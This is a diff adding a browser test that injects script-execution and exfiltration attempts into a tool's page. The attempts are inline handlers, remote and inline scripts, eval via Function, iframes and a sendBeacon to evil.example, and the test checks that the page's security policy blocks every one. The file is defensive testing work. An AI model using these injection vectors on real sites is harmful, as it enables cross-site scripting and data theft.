@@ -147,3 +147,52 @@ test('attack: the page sends requests only to mcp-inspect, whatever a server ret
   expect(outside).toEqual([]);
   expect(violations).toEqual([]);
 });
+
+test('attack: scripts, handlers, eval, frames and beacons of injected code are blocked by the page’s policy', async ({
+  open,
+}) => {
+  const { page } = await open(['--', ...demoCommand()]);
+  await new Workbench(page).connected();
+  await page.evaluate(() => {
+    const seen = { errors: [] as string[], blocked: [] as string[] };
+    Object.assign(globalThis, { seen });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      seen.blocked.push(effectiveDirective);
+    });
+    const run = 'globalThis.ran = true';
+    const add = <K extends 'script' | 'iframe' | 'img'>(name: K, attributes: Record<string, string>, text = '') => {
+      const element = document.createElement(name);
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+      element.append(text);
+      document.body.append(element);
+    };
+    const attempts = [
+      () => document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="${run}">`),
+      () => document.body.setAttribute('onclick', run),
+      () => add('script', {}, run),
+      () => add('script', { src: 'https://evil.example/x.js' }),
+      () => Reflect.construct(Function, [run])(),
+      () => add('iframe', { src: 'https://evil.example/' }),
+      () => add('iframe', { srcdoc: `<script>parent.ran = true</script>` }),
+      () => add('img', { src: 'https://evil.example/x.png' }),
+      () => navigator.sendBeacon('https://evil.example/', 'x'),
+    ];
+    // What is evaluated for a test may use eval, but not what it schedules.
+    for (const attempt of attempts) {
+      setTimeout(() => {
+        try {
+          attempt();
+        } catch (error) {
+          seen.errors.push((error as Error).name);
+        }
+      });
+    }
+  });
+  const seen = () =>
+    page.evaluate(() => (globalThis as unknown as { seen: { errors: string[]; blocked: string[] } }).seen);
+  await expect
+    .poll(async () => (await seen()).blocked.toSorted())
+    .toEqual(['connect-src', 'frame-src', 'img-src', ...Array(5).fill('require-trusted-types-for')]);
+  expect((await seen()).errors).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError', 'TypeError']);
+  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
+});
